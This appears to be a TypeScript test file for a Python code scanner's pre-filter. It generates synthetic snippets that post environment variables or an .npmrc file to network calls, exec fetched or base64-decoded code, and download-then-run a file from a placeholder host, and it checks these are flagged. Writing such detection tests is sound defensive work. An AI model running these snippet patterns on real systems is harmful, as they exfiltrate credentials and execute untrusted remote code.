import { pythonReady } from './grammar';
import { mayMatter } from '../../facts/python-words';
import {
  EVALUATORS,
  NETWORK_CALLS,
  NETWORK_MODULES,
  STARTERS,
  UNPICKLERS,
  UNREAD_EVALUATORS,
} from './known-modules';
import { readPython } from './read-python';

/** Every function that the tables know, by one name of each alternative. */
const STARTING =
  'subprocess.run subprocess.call subprocess.check_call subprocess.check_output subprocess.Popen subprocess.getoutput subprocess.getstatusoutput os.system os.popen os.execv os.execlp os.spawnv os.spawnlp os.posix_spawn os.posix_spawnp os.startfile pty.spawn _posixsubprocess.fork_exec commands.getoutput asyncio.create_subprocess_shell asyncio.create_subprocess_exec'.split(
    ' ',
  );
const EVALUATING =
  'exec eval execfile runpy.run_path types.FunctionType timeit.timeit timeit.repeat timeit.Timer cProfile.run profile.runctx pdb.run pdb.runeval doctest.debug_src doctest.debug_script runpy._run_code runpy._run_module_code ctypes.pythonapi.PyRun_SimpleString'.split(
    ' ',
  );
const UNREAD =
  'timeit.main doctest.run_docstring_examples doctest.testsource typing.ForwardRef typing.get_type_hints'.split(
    ' ',
  );
const MAKING =
  'pickle.load pickle.loads _pickle.loads cPickle.loads pickle.Unpickler dill.loads cloudpickle.load joblib.load torch.load jsonpickle.decode pandas.read_pickle shelve.open yaml.load yaml.unsafe_load yaml.load_all'.split(
    ' ',
  );
const SENDING = [
  ...[...NETWORK_MODULES].map((module) => `${module}.post`),
  'urllib2.urlopen',
  'socket.create_connection',
  'socket.getaddrinfo',
  'socket.gethostbyname',
  'asyncio.open_connection',
];
/** What rules on code speak of. */
const TELLING =
  /^(?:secret-sent|identity-sent|remote-code|remote-shell|reverse-shell|downloaded-program|asset-code|decoded-code|agent-settings-write)$/;

function ways(callee: string): ((args: string) => string)[] {
  const [member = '', ...above] = callee.split('.').reverse();
  const module = above.reverse().join('.');
  if (module === '')
    return [
      (args) => `${callee}(${args})`,
      (args) => `a = ${callee}\na(${args})`,
      (args) => `import builtins\nbuiltins.${callee}(${args})`,
      (args) => `from builtins import ${callee} as a\na(${args})`,
      (args) => `getattr(__builtins__, '${callee}')(${args})`,
    ];
  return [
    (args) => `import ${module}\n${callee}(${args})`,
    (args) => `import ${module} as a\na.${member}(${args})`,
    (args) => `from ${module} import ${member}\n${member}(${args})`,
    (args) => `from ${module} import ${member} as a\na(${args})`,
    (args) => `import ${module}\n${module} \\\n  .${member}(${args})`,
    (args) => `import ${module}\ngetattr(${module}, '${member}')(${args})`,
    (args) => `__import__('${module}').${member}(${args})`,
    (args) => `import importlib\nimportlib.import_module('${module}').${member}(${args})`,
  ];
}

const SECRETS = ['dict(os.environ)', "open('/x/.npmrc').read()", 'socket.gethostname()', 'getpass.getuser()'];
const FETCHED = "requests.get('https://x.invalid').text";
const PACKED = "base64.b64decode('cHJpbnQoMSk=')";
const SOURCES = [
  ...SENDING.flatMap((callee) =>
    ways(callee).flatMap((way) => SECRETS.map((secret) => way(`'x', ${secret}`))),
  ),
  ...[...UNREAD, ...MAKING].flatMap((callee) => ways(callee).map((way) => way(FETCHED))),
  ...[...STARTING, ...EVALUATING].flatMap((callee) =>
    ways(callee).flatMap((way) => [FETCHED, PACKED, "open('x.wav').read()"].map(way)),
  ),
  ...STARTING.flatMap((callee) =>
    ways(callee).map(
      (way) =>
        `import urllib.request\np = 'x'\nurllib.request.urlretrieve('https://x.invalid', p)\n${way('[p]')}`,
    ),
  ),
].map(imported);

/** With the modules that it names besides, and no other: an import alone may be what a file is read for. */
function imported(source: string): string {
  const named = ['os', 'socket', 'getpass', 'base64', 'requests'].filter((name) =>
    source.includes(`${name}.`),
  );
  return `${named.map((name) => `import ${name}\n`).join('')}${source}\n`;
}

describe('ast/python/pre-filter', () => {
  beforeAll(pythonReady);

  it.each([
    ['starts a program', STARTERS, STARTING],
    ['evaluates', EVALUATORS, EVALUATING],
    ['evaluates what is more than code', UNREAD_EVALUATORS, UNREAD],
    ['calls what bytes name', UNPICKLERS, MAKING],
    ['reaches the network', NETWORK_CALLS, SENDING],
  ])('draws only what is known to be something that %s', (_, table, drawn) => {
    expect(drawn.filter((callee) => !table.test(callee))).toEqual([]);
  });

  it('skips no file in which a rule on code would see something', () => {
    const telling = SOURCES.filter((source) =>
      readPython('a.py', source).observations.some(({ signal }) => TELLING.test(signal)),
    );

    expect(telling.length).toBeGreaterThan(SOURCES.length / 3);
    expect(telling.filter((source) => !mayMatter(source))).toEqual([]);
  });
});
